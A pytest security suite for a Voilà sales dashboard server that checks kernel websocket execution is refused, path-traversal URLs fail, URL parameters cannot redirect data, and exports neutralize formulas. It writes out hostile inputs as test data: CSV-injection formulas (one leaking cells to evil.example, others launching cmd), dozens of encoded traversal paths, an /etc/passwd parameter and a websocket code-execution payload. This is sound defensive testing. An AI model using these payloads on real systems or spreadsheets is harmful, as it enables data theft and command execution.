"""What a reader of the dashboards cannot do, checked against a real ``salesops serve``.

- The kernel of a rendered dashboard refuses execute requests sent over its websocket.
- The server serves no file but the dashboards, Voilà's assets and the charts' one vega bundle
  (a single route, no path read from the request): not pyproject.toml, not the package sources, not
  the notebooks' source, not the data (inside or outside the data root), whatever the path
  trick (``..``, ``%2e%2e``, encoded slashes, absolute paths).
- A URL parameter cannot point the data elsewhere. ``data_path`` and ``mapping`` in a URL get a
  400 before any kernel starts: tests/test_serve.py (``test_bad_url_parameters_are_refused``,
  ``test_bad_url_parameter_gives_a_friendly_page``) checks the hook and the page; here, the
  encoded spellings of the names.
- Exported CSV and XLSX neutralize formulas: a deal named ``=HYPERLINK(...)`` downloads, through
  the drill-down's export bar in chromium, as text that no spreadsheet runs.

The server here serves notebooks/ on a copy of the default sample whose largest deals carry
formulas in their names, under tmp/; the repository's own data/samples is outside its data root.
"""

from __future__ import annotations

import asyncio
import csv
import datetime as dt
import http.client
import io
import json
import re
import shutil
import time
import urllib.error
import urllib.request
import uuid
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import quote, urlsplit

import openpyxl
import pandas as pd
import pytest
from _helpers import ROOT
from conftest import salesops_serve, worker_id

from salesops_widgets.widgets import chart_bundle, chart_bundle_route

pytestmark = [pytest.mark.slow]

RENDER_TIMEOUT_MS = 240_000
# Names given to the largest deals and their account: what an attacker would type into the CRM.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+SUM(1,1)*cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
ACCOUNT_FORMULA = "-2+3+cmd|' /C calc'!A0"
# What makes a spreadsheet read a cell as a formula (OWASP, "CSV injection").
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


# --------------------------------------------------------------------------------------------------
# The server, on a poisoned copy of the sample, and files it must never serve


@pytest.fixture(scope="module")
def exports(sample_dirs, tmp_path_factory) -> dict[str, Path]:
    """``crm``: the served export (the sample, its 3 largest deals named with formulas);
    ``other``: an export next to it, outside the data root."""
    base = tmp_path_factory.mktemp("exports")
    crm = shutil.copytree(sample_dirs["default"], base / "crm")
    deals = pd.read_parquet(crm / "opportunities.parquet")
    top = deals["amount"].nlargest(len(FORMULAS)).index
    deals.loc[top, "opportunity_name"] = FORMULAS
    deals.to_parquet(crm / "opportunities.parquet", index=False)
    accounts = pd.read_parquet(crm / "accounts.parquet")
    poisoned = accounts["account_id"] == deals.loc[top[0], "account_id"]
    accounts.loc[poisoned, "account_name"] = ACCOUNT_FORMULA
    accounts.to_parquet(crm / "accounts.parquet", index=False)
    other = base / "other"
    other.mkdir()
    (other / "secret.csv").write_text("opportunity_id,amount\nSECRET-1,1\n")
    return {"crm": crm, "other": other}


@pytest.fixture(scope="module")
def server(exports, request) -> str:
    with salesops_serve(exports["crm"], f"serve-security-{worker_id(request.config)}.log") as url:
        yield url


@pytest.fixture(scope="module")
def canaries() -> dict[str, Path]:
    """Files of every extension Voilà's file handler allows (images), next to notebooks/ in the
    repository's tmp/ (gitignored): outside the served folder, so never served."""
    folder = ROOT / "tmp" / "security-canary"
    folder.mkdir(parents=True, exist_ok=True)
    files = {}
    for ext in ("svg", "png", "gif", "jpg"):
        files[ext] = folder / f"secret.{ext}"
        files[ext].write_text(f"CANARY-{ext}-{uuid.uuid4()}")
    yield files
    shutil.rmtree(folder, ignore_errors=True)


def raw_get(base: str, path: str) -> tuple[int, bytes]:
    """GET ``path`` exactly as written: no client-side normalisation of ``..`` or ``%2e``."""
    parts = urlsplit(base)
    conn = http.client.HTTPConnection(parts.hostname, parts.port, timeout=60)
    try:
        conn.request("GET", path)
        response = conn.getresponse()
        return response.status, response.read()
    finally:
        conn.close()


def traversals(relative: str) -> list[str]:
    """Ways to reach ``relative`` (a path from the repository root) from the server's URL
    handlers: ``..`` plain, percent-encoded, with encoded slashes, or absolute."""
    absolute = quote(str(ROOT / relative))
    ups = "../" * 12
    return [
        f"/voila/files/../{relative}",
        f"/voila/files/%2e%2e/{relative}",
        f"/voila/files/%2E%2E%2F{quote(relative, safe='')}",
        f"/voila/files/..%5c{relative}",
        f"/voila/files/{absolute}",
        f"/voila/files//{absolute.lstrip('/')}",
        f"/voila/files/%2F{quote(str(ROOT / relative).lstrip('/'), safe='')}",
        f"/voila/render/../{relative}",
        f"/voila/render/%2e%2e/{relative}",
        f"/voila/tree/%2e%2e/{relative}",
        f"/voila/api/contents/%2e%2e/{relative}",
        f"/voila/static/{ups}{relative}",
        f"/voila/static/{'%2e%2e/' * 12}{relative}",
        f"/voila/templates/salesops/static/{ups}{relative}",
        f"/voila/templates/salesops/static/{'%2e%2e%2f' * 12}{relative}",
        f"/voila/labextensions/{ups}{relative}",
        f"/salesops/static/{ups}{relative}",
        f"/salesops/static/{'%2e%2e/' * 12}{relative}",
        f"/salesops/static/{'%2e%2e%2f' * 12}{quote(relative, safe='')}",
        f"/{chart_bundle_route()}/{ups}{relative}",
        f"/voila/api/themes/{'%2e%2e/' * 12}{relative}",
        f"/{relative}",
        f"/files/{relative}",
        f"/api/contents/{relative}",
    ]


PROJECT_FILES = [
    "pyproject.toml",
    "salesops_widgets/__init__.py",
    "salesops_widgets/serve/_config.py",
    "data/samples/default/opportunities.parquet",  # not the data root of this server
    "data/samples/messy/opportunities.csv",
]


@pytest.mark.parametrize("relative", PROJECT_FILES)
def test_project_files_are_not_served(server, sample_dirs, relative):
    secret = (ROOT / relative).read_bytes()[:64]
    served = {}
    for path in traversals(relative):
        status, body = raw_get(server, path)
        if status == 200 or secret in body:
            served[path] = status
    assert served == {}, f"{relative} was served"


def test_the_data_root_and_files_beside_it_are_not_served(server, exports):
    served = {}
    for folder, name in (
        (exports["crm"], "opportunities.parquet"),
        (exports["other"], "secret.csv"),
    ):
        target = folder / name
        secret = target.read_bytes()[:64]
        for path in (
            f"/voila/files/{quote(str(target))}",
            f"/voila/files/{'../' * 12}{quote(str(target).lstrip('/'))}",
            f"/voila/files/{'%2e%2e/' * 12}{quote(str(target).lstrip('/'))}",
            f"/voila/render/{'%2e%2e/' * 12}{quote(str(target).lstrip('/'))}",
        ):
            status, body = raw_get(server, path)
            if status == 200 or secret in body:
                served[path] = status
    assert served == {}


def test_allowed_file_types_outside_the_notebooks_are_not_served(server, canaries):
    served = {}
    for canary in canaries.values():
        relative = canary.relative_to(ROOT).as_posix()
        for path in traversals(relative):
            status, body = raw_get(server, path)
            if status == 200 or canary.read_bytes() in body:
                served[path] = status
    assert served == {}


@pytest.mark.parametrize("notebook", ["data_quality.ipynb", "segmentation_explorer.ipynb"])
def test_notebook_sources_are_not_served(server, notebook):
    source = (ROOT / "notebooks" / notebook).read_text()
    code = next(c for c in json.loads(source)["cells"] if c["cell_type"] == "code")
    first_line = "".join(code["source"]).splitlines()[0]
    status, body = raw_get(server, f"/voila/files/{notebook}")
    assert status == 403 and first_line.encode() not in body
    # the index page's listing: the notebook's name and dates, never its content
    status, body = raw_get(server, f"/voila/api/contents/{notebook}?content=1")
    assert first_line.encode() not in body
    assert status != 200 or json.loads(body)["content"] is None


def test_the_server_answers_static_assets(server):
    """The control for the refusals above: the handlers they probe do serve their own files."""
    status, body = raw_get(server, "/voila/templates/salesops/static/index.css")
    assert status == 200 and len(body) > 1000
    status, _ = raw_get(server, "/voila/static/voila.js")
    assert status == 200
    # the charts' shared vega bundle: that one file, and nothing beside it
    status, body = raw_get(server, f"/{chart_bundle_route()}")
    assert status == 200 and body == chart_bundle().encode("utf-8")
    for other in ("salesops/static/", "salesops/static/index.css", f"{chart_bundle_route()}x"):
        assert raw_get(server, f"/{other}")[0] == 404, other


@pytest.mark.parametrize(
    "query",
    [
        "data%5Fpath=/etc",
        "data_path=..%2F..%2Fdata%2Fsamples%2Fmessy",
        "as_of=&mapping=/etc/passwd",
    ],
)
def test_url_cannot_set_the_data_path_in_any_spelling(server, query):
    with pytest.raises(urllib.error.HTTPError) as caught:
        urllib.request.urlopen(f"{server}voila/render/data_quality.ipynb?{query}", timeout=60)
    assert caught.value.code == 400
    assert "cannot be set in the address" in caught.value.read().decode()


# --------------------------------------------------------------------------------------------------
# The kernel refuses code sent over its websocket


def kernel_message(msg_type: str, content: dict, channel: str, session: str) -> dict:
    header = {
        "msg_id": uuid.uuid4().hex,
        "msg_type": msg_type,
        "session": session,
        "username": "reader",
        "date": dt.datetime.now(dt.UTC).isoformat(),
        "version": "5.3",
    }
    return {
        "header": header,
        "parent_header": {},
        "metadata": {},
        "content": content,
        "channel": channel,
        "buffers": [],
    }


async def exchange(url: str, messages: list[dict], until: str, linger: float) -> list[dict]:
    """Send ``messages`` on the kernel websocket; collect what comes back until a message of
    type ``until`` arrived and ``linger`` more seconds passed (or 60 s in all)."""
    from tornado.websocket import websocket_connect

    conn = await websocket_connect(url)
    for message in messages:
        await conn.write_message(json.dumps(message))
    loop = asyncio.get_running_loop()
    received: list[dict] = []
    deadline = loop.time() + 60
    while loop.time() < deadline:
        try:
            raw = await asyncio.wait_for(conn.read_message(), deadline - loop.time())
        except TimeoutError:
            break
        if raw is None:
            break
        received.append(json.loads(raw) if isinstance(raw, str) else {"binary": len(raw)})
        if received[-1].get("msg_type") == until:
            deadline = min(deadline, loop.time() + linger)
    conn.close()
    return received


@dataclass(frozen=True)
class Rendered:
    kernel_id: str
    xsrf: str  # the _xsrf cookie the page got


def render_kernel(server: str) -> Rendered:
    """Render data_quality.ipynb over plain HTTP: its kernel and its _xsrf cookie."""
    with urllib.request.urlopen(f"{server}voila/render/data_quality.ipynb", timeout=240) as page:
        html = page.read().decode()
        cookies = page.headers.get_all("Set-Cookie") or []
    xsrf = next(c.split(";")[0].split("=", 1)[1] for c in cookies if c.startswith("_xsrf="))
    return Rendered(re.search(r'"kernelId": "([0-9a-f-]{36})"', html).group(1), xsrf)


def kernel_alive(server: str, kernel_id: str) -> bool:
    try:
        with urllib.request.urlopen(f"{server}api/kernels/{kernel_id}", timeout=30):
            return True
    except urllib.error.HTTPError as exc:
        if exc.code == 404:
            return False
        raise


@pytest.fixture(scope="module")
def rendered(server) -> Rendered:
    """A dashboard rendered over plain HTTP (no browser holds its kernel)."""
    return render_kernel(server)


def test_the_kernel_refuses_execute_requests(server, rendered, tmp_path):
    kernel_id = rendered.kernel_id
    marker = tmp_path / "executed"
    code = f"open({str(marker)!r}, 'w').write('pwned')\nprint('EXECUTED')\n1 + 1"
    session = uuid.uuid4().hex
    content = {"code": code, "silent": False, "store_history": True, "user_expressions": {}}
    attacks = [
        kernel_message("execute_request", content, "shell", session),
        kernel_message("execute_request", content, "control", session),
        kernel_message("inspect_request", {"code": "open", "cursor_pos": 4}, "shell", session),
    ]
    probe = kernel_message("kernel_info_request", {}, "shell", session)
    ws = f"ws://{urlsplit(server).netloc}/api/kernels/{kernel_id}/channels?session_id={session}"

    # in a thread of its own: playwright's sync API leaves this thread's event loop running
    with ThreadPoolExecutor(1) as pool:
        exchanged = pool.submit(
            asyncio.run, exchange(ws, [*attacks, probe], "kernel_info_reply", 5)
        )
        received = exchanged.result()

    replies = {(m.get("parent_header", {}).get("msg_id"), m["msg_type"]) for m in received}
    assert (probe["header"]["msg_id"], "kernel_info_reply") in replies, (
        "the kernel did not answer an allowed request: the websocket check proves nothing"
    )
    answered = [
        m["msg_type"]
        for m in received
        if m.get("parent_header", {}).get("msg_id") in {a["header"]["msg_id"] for a in attacks}
    ]
    assert answered == [], "the kernel answered a request it must refuse"
    assert "EXECUTED" not in json.dumps(received)
    assert not marker.exists(), "code sent over the websocket ran in the kernel"


def test_a_kernel_cannot_be_shut_down_from_another_site(server, rendered):
    """A form posted from another site carries the reader's _xsrf cookie but cannot know its
    value, or comes with the other site's Origin: no shutdown either way."""
    url = f"{server}voila/api/shutdown/{rendered.kernel_id}"
    cookie = {"Cookie": f"_xsrf={rendered.xsrf}"}
    for headers, body in (
        ({}, ""),
        (cookie, ""),
        (cookie, "_xsrf=guessed"),
        ({**cookie, "Origin": "http://evil.example"}, f"_xsrf={rendered.xsrf}"),
    ):
        request = urllib.request.Request(url, method="POST", data=body.encode(), headers=headers)
        with pytest.raises(urllib.error.HTTPError) as caught:
            urllib.request.urlopen(request, timeout=30)
        assert caught.value.code in (403, 404), (headers, body)  # 404: a foreign Origin
    assert kernel_alive(server, rendered.kernel_id)


@pytest.mark.browser
def test_a_closed_page_shuts_its_kernel_down(page, server):
    """The page's own shutdown request on close (with the _xsrf cookie salesops serve sets;
    plain Voilà 0.5 refuses it, voila#1458) stops the kernel at once, not after the culler's
    20 minutes."""
    page.goto(f"{server}voila/render/data_quality.ipynb", timeout=RENDER_TIMEOUT_MS)
    page.locator("#rendered_cells").wait_for(state="visible", timeout=RENDER_TIMEOUT_MS)
    kernel = re.search(r'"kernelId": "([0-9a-f-]{36})"', page.content()).group(1)
    assert kernel_alive(server, kernel)
    page.close(run_before_unload=True)
    deadline = time.monotonic() + 30
    while kernel_alive(server, kernel) and time.monotonic() < deadline:
        time.sleep(0.5)
    assert not kernel_alive(server, kernel), "the kernel of a closed page is still running"


def test_kernels_cannot_be_listed_or_started(server):
    for method, path in (
        ("GET", "/api/kernels"),
        ("POST", "/api/kernels"),
        ("GET", "/api/sessions"),
    ):
        request = urllib.request.Request(f"{server.rstrip('/')}{path}", method=method, data=b"{}")
        with pytest.raises(urllib.error.HTTPError) as caught:
            urllib.request.urlopen(request, timeout=30)
        assert caught.value.code in (403, 404, 405), path


# --------------------------------------------------------------------------------------------------
# Exports neutralize formulas, end to end: the drill-down's export bar in chromium


def cell_is_safe(value: str) -> bool:
    """A cell a spreadsheet will not run: no formula trigger first, or a plain number."""
    if not value.startswith(TRIGGERS):
        return True
    try:
        float(value)
    except ValueError:
        return False
    return True


def download(page, button: str, link: str) -> bytes:
    """Click the drill-down export bar's ``button``, then the link it prepares; the file."""
    bar = page.locator(
        "xpath=//h4[starts-with(normalize-space(), 'Deals behind:')]"
        "/ancestor::div[contains(@class,'widget-vbox')][2]"
    )
    bar.get_by_role("button", name=button, exact=True).click()
    anchor = bar.get_by_role("link", name=f"Download {link}")
    anchor.wait_for(timeout=60_000)
    with page.expect_download(timeout=60_000) as caught:
        anchor.click()
    return Path(caught.value.path()).read_bytes()


@pytest.mark.browser
def test_exported_deals_cannot_run_formulas(page, page_log, server):
    page.goto(f"{server}voila/render/segmentation_explorer.ipynb", timeout=RENDER_TIMEOUT_MS)
    page.locator("#rendered_cells").wait_for(state="visible", timeout=RENDER_TIMEOUT_MS)

    text = download(page, "CSV", "deals.csv").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    header, body = rows[0], rows[1:]
    names = [row[header.index("opportunity_name")] for row in body]
    assert names[: len(FORMULAS)] == ["'" + f for f in FORMULAS]  # the largest deals first
    accounts = [row[header.index("account")] for row in body]
    assert "'" + ACCOUNT_FORMULA in accounts
    unsafe = [cell for row in rows for cell in row if not cell_is_safe(cell)]
    assert unsafe == []

    book = openpyxl.load_workbook(io.BytesIO(download(page, "Excel", "deals.xlsx")))
    sheet = book.worksheets[0]
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == [], "a cell is a formula"
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert ["'" + f for f in FORMULAS] == [t for t in texts if t.lstrip("'") in FORMULAS]
    assert [t for t in texts if not cell_is_safe(t)] == []

    assert page_log.console_errors == [] and page_log.uncaught_errors == []
    assert page_log.external_requests == []
